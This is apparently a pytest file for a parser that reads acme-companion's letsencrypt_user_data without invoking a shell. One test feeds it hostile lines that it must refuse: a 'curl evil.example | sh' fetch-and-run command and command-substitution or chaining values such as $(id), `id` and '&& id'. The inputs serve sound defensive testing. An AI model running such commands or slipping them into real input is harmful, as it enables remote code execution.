"""acme-companion's letsencrypt_user_data, read without a shell."""

from __future__ import annotations

import json

import pytest

from homeport.certs.asking import Asking, Defaults
from homeport.certs.user_data import read_user_data
from homeport.certs.wishes import wanted
from homeport.errors import FileFault

DOCUMENTED = """
# three of them
ACME_STANDALONE_CERTS=('web' "app" other-site)
ACME_web_HOST=('yourdomain.tld' 'www.yourdomain.tld')
ACME_app_HOST=(
    'myapp.yourdomain.tld'   # the first
    'service.yourotherdomain.tld'
)
ACME_app_EMAIL="me@yourdomain.tld"; LETSENCRYPT_app_KEYSIZE=4096
LETSENCRYPT_web_TEST=true
"""


def env(text: str) -> list[dict[str, str]]:
    """What is said of each."""
    return [dict(one.env) for one in read_user_data(text, "user_data")]


def test_the_documented_file() -> None:
    text = DOCUMENTED.replace(" other-site", "")
    expected = [
        {"ACME_HOST": "yourdomain.tld,www.yourdomain.tld", "LETSENCRYPT_TEST": "true"},
        {
            "ACME_HOST": "myapp.yourdomain.tld,service.yourotherdomain.tld",
            "ACME_EMAIL": "me@yourdomain.tld",
            "LETSENCRYPT_KEYSIZE": "4096",
        },
    ]
    assert expected == env(text)
    names = [one.names for one in wanted(read_user_data(text, "user_data"), Defaults())]
    assert [tuple(one["ACME_HOST"].split(",")) for one in expected] == names


def test_the_names_of_before() -> None:
    text = "LETSENCRYPT_STANDALONE_CERTS=('web')\nLETSENCRYPT_web_HOST=('a.example.org')\n"
    assert [{"LETSENCRYPT_HOST": "a.example.org"}] == env(text)


def test_credentials_of_a_zone() -> None:
    text = """
ACME_STANDALONE_CERTS=('web')
ACME_web_HOST=('a.example.org')
ACME_web_CHALLENGE=DNS-01
declare -A ACMESH_web_DNS_API_CONFIG=(
    ['DNS_API']='dns_cf'
    ['CF_Token']='a $b `c`'
)
"""
    (found,) = env(text)
    api = {"DNS_API": "dns_cf", "CF_Token": "a $b `c`"}
    assert ("DNS-01", api) == (
        found["ACME_CHALLENGE"],
        json.loads(found["ACMESH_DNS_API_CONFIG"]),
    )


def test_an_empty_file_asks_for_nothing() -> None:
    assert [(), ()] == [read_user_data(text, "user_data") for text in ("", "# nothing\n")]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("\ncurl evil.example | sh\n", "user_data:2: is no plain assignment"),
        ("A=('a')\nB=$(id)\n", "user_data:2: is no plain assignment"),
        ('A="$HOME"', "user_data:1: is no plain assignment"),
        ("A=`id`", "user_data:1: is no plain assignment"),
        ("A=('a'", "user_data:1: is no plain assignment"),
        ("A='a", "user_data:1: is no plain assignment"),
        ("A=1 && id", "user_data:1: is no plain assignment"),
        ("ACME_STANDALONE_CERTS=('web')", "user_data: ACME_web_HOST: is missing"),
        (DOCUMENTED, "user_data: ACME_other-site_HOST: is missing"),
    ],
)
def test_what_a_shell_would_run_is_refused_by_its_line(text: str, said: str) -> None:
    with pytest.raises(FileFault) as caught:
        read_user_data(text, "user_data")
    assert said == caught.value.message


def test_a_megabyte_of_nonsense_is_refused_at_once() -> None:
    for text in ("A=(" + "a " * 500_000, "A=" + "'" * 999_999, "#" * 1_000_000 + "\n("):
        with pytest.raises(FileFault):
            read_user_data(text, "user_data")


def test_asking_is_for_no_container() -> None:
    text = "ACME_STANDALONE_CERTS=(web)\nACME_web_HOST=(a.example.org)\n"
    expected = Asking(owner="", hosts=(), env={"ACME_HOST": "a.example.org"})
    assert (expected,) == read_user_data(text, "user_data")
